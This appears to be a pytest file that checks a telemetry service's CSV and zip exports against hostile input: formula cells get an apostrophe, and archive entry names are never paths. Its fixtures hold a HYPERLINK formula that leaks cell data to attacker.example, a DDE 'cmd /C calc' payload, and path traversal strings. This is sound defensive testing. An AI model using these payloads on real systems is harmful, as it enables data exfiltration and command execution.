"""Exports of what hostile master nodes sent: archive entries are never paths, cells never formulas."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from fuelstats.analytics.exports import neutralize_formula, oswl_entry_name
from fuelstats.collector import ingest
from fuelstats.collector.filtering import FilteringRules
from tests.collector.payloads import http_request_log, installation_structure, oswl_record

ESCAPING_TYPE = "../../../../tmp/x"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


@pytest.fixture
def private(engine, as_admin):  # type: ignore[no-untyped-def]
    from fuelstats.analytics.app import create_app

    with create_app().test_client(client=("127.0.0.1", 40000), headers=as_admin) as client:
        yield client


@pytest.mark.parametrize(("text", "written"), [
    (FORMULA, "'" + FORMULA),
    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("compute", "compute"), ("a=b", "a=b"), ("", ""), ("'quoted", "'quoted"),
])
def test_text_a_spreadsheet_would_evaluate_gets_an_apostrophe(text, written):
    assert neutralize_formula(text) == written


@pytest.mark.parametrize("resource_type", [ESCAPING_TYPE, "/etc/passwd", "..", "a\\b", "C:x", "VM", "x" * 300, ""])
def test_an_archive_entry_is_never_a_path(resource_type):
    name = oswl_entry_name(resource_type)
    assert name.startswith("oswl_type-") and name.endswith(".csv")
    assert set(name) <= set("abcdefghijklmnopqrstuvwxyz0123456789_-.") and ".." not in name
    assert oswl_entry_name(resource_type + "!") != name


def test_the_archive_of_hostile_data_unpacks_inside_its_folder(private, engine, tmp_path: Path):
    ingest.record_oswl_stats(engine, None, [oswl_record(1), oswl_record(2, resource_type=ESCAPING_TYPE)])
    response = private.get("/api/v1/private/archive/")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        names = archive.namelist()
        assert "oswl_vm.csv" in names and oswl_entry_name(ESCAPING_TYPE) in names
        assert all("/" not in name and "\\" not in name and ".." not in name for name in names), names
        archive.extractall(tmp_path / "unpacked")
    assert sorted(path.name for path in (tmp_path / "unpacked").iterdir()) == sorted(names)


def test_cells_are_exported_as_text_never_as_formulas(private, engine):
    ingest.record_action_logs(engine, None, [http_request_log(1, actor_id=FORMULA, action_name="@cmd")])
    structure = installation_structure()
    structure["clusters"][0]["status"] = "+cmd|' /C calc'!A0"
    structure["clusters"][0]["installed_plugins"] = [{"name": "\tplugin", "version": "-1", "package_version": "\r1"}]
    ingest.record_installation_structure(engine, None, structure, FilteringRules())

    logs = next(csv.DictReader(io.StringIO(private.get("/api/v1/private/exports/action_logs/").text)))
    assert (logs["actor_id"], logs["action_name"]) == ("'" + FORMULA, "'@cmd")
    clusters = list(csv.DictReader(io.StringIO(private.get("/api/v1/private/exports/clusters/").text)))
    assert clusters[0]["status"] == "'+cmd|' /C calc'!A0"
    plugin = next(csv.DictReader(io.StringIO(private.get("/api/v1/private/exports/plugins/").text)))
    assert (plugin["name"], plugin["version"], plugin["package_version"]) == ("'\tplugin", "'-1", "'\r1")
    # Dates, numbers and plain text are untouched.
    assert logs["external_id"] == "1" and logs["received_at"][:2] == "20"
